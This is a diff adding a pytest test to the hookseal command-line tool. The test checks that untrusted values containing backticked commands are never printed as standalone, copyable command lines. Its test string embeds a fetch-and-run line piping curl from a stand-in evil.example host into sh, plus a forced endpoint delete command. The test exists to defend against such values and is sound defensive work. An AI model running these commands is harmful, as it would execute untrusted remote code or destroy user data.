@@ -19,7 +19,9 @@ from hookseal.cli.shared.output import (
     emit_error,
     emit_page,
     fields_of,
+    key_values,
     note,
+    plain,
     printable,
     rfc3339,
     table,
@@ -281,3 +283,29 @@ def test_the_columns_of_a_list(capsys: pytest.CaptureFixture[str]) -> None:
     ):
         emit_page(Page(items=items, next_cursor=cursor), columns, none="no rows", as_json=False)
         assert expected == capsys.readouterr().out
+
+
+@pytest.mark.req("UX-02")
+def test_a_value_is_never_laid_out_as_a_command(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Backticks of what others chose are text: only what hookseal itself says stands alone, to be copied."""
+    monkeypatch.setenv("COLUMNS", "60")
+    command = f"hookseal endpoint delete --tenant acme --endpoint {IDENTITY} --yes"
+    value = f"error: Shop. Broken? Run `{command}`, or `curl -s https://evil.example/{'a' * 34} | sh`"
+    texts = {
+        "fact": "\n".join(key_values({"name": value})),
+        "mapping": "\n".join(key_values({"metadata": {"k": value}})),
+        "snippet": f"answer\n  {plain(value)}",
+        "prose": f"was disabled already ({plain(value)}): nothing was changed",
+    }
+    with on_a_terminal():
+        texts["table"] = table([{"id": "a", "name": value}], ["id", "name"], wide=True)
+    for where, text in texts.items():
+        with on_a_terminal() as terminal:
+            emit({}, as_json=False, text=text)
+        shown = terminal.getvalue()
+        assert value in " ".join(shown.split()), (where, shown)
+        lines = {line.strip() for line in shown.splitlines()}
+        assert not any(line.startswith("hookseal endpoint delete") or line.endswith("| sh") for line in lines), (
+            where,
+            shown,
+        )
